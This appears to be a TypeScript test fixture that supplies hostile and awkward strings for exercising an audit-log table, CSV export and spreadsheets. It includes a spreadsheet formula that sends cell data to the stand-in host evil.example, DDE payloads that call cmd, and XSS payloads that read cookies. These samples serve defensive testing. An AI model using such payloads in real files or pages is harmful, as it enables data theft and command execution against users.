// About 1% of generated events carry one of these in a text field, so every consumer (table, details, CSV
// export, spreadsheets) is exercised against what real audit data eventually contains.

/** 10 KB of text, the size that breaks naive cells and tooltips. */
const longText = `${'Lorem ipsum dolor sit amet, consectetur adipiscing elit. '.repeat(176)}end`.slice(
  0,
  10_240,
);

/**
 * Hostile or awkward strings: spreadsheet formula triggers, HTML and script payloads, CSV metacharacters,
 * control characters, right-to-left text, emoji and a 10 KB value.
 */
export const hostileStrings: readonly string[] = [
  '=HYPERLINK("https://evil.example/steal?d="&A1,"Click for details")',
  '=1+2',
  '+SUM(A1:A9)',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '\t=tab-led formula',
  '\r=cr-led formula',
  '<script>alert("xss")</script>',
  '<img src=x onerror="alert(document.cookie)">',
  '"><svg onload=alert(1)>',
  'Say "hello", then leave',
  'comma, separated, value',
  'line one\r\nline two\nline three\rline four',
  'tab\tseparated\tvalue',
  '  leading and trailing spaces  ',
  'مرحبا بالعالم — تم تغيير كلمة المرور',
  'שלום עולם ‮reversed‬ text',
  '🚀 deploy ✅ — 👩🏽‍💻 signed in 🎉',
  'null',
  'NUL\u0000char',
  longText,
];
